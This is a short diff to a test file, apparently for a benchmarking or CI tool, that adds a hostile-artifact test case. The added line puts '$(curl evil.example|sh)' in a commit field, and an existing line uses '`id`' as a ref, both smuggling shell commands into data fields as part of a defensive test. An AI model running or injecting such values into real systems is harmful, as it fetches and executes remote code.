@@ -341,6 +341,7 @@ describe('a hostile artifact', { timeout: 120_000 }, () => {
           head: { commit: 'deadbeef', ref: '`id`' },
           reason: 'merge-base',
         },
+        baseline: { commit: '$(curl evil.example|sh)', distance: 1, runs: 1 },
         measured: { mode: 'paired', alpha: 0.01, family: 1, pairs: 11, environment: { cpu: evil, os: evil } },
       }),
     )
